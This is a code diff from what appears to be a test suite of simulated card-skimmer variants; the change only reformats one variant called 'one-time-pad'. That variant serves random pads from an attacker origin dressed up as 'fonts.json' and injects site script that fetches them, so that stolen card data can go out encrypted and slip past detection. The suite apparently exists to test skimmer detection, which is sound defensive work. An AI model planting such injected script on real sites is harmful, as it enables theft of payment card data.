@@ -7,7 +7,7 @@ const pads: Buffer[] = [];
 
 export default skimmer({
   id: 'one-time-pad',
-  why: 'The attacker\'s server hands out a pad with every load; what comes back is the card under it and nothing else: no key, no cipher, never twice the same.',
+  why: "The attacker's server hands out a pad with every load; what comes back is the card under it and nothing else: no key, no cipher, never twice the same.",
   covers: ['cipher: any', 'encoding: substitution'],
   base: 'direct',
   install: (site) => {
@@ -15,7 +15,10 @@ export default skimmer({
     site.serve('evil/fonts.json', () => {
       const pad = randomBytes(80);
       pads.push(pad);
-      return { headers: { 'content-type': 'application/json' }, body: JSON.stringify({ id: pads.length - 1, p: pad.toString('base64') }) };
+      return {
+        headers: { 'content-type': 'application/json' },
+        body: JSON.stringify({ id: pads.length - 1, p: pad.toString('base64') }),
+      };
     });
     site.append(js`fetch('${site.origins.evil}/fonts.json').then(function (r) { return r.json(); }).then(function (pad) {
   var key = atob(pad.p);
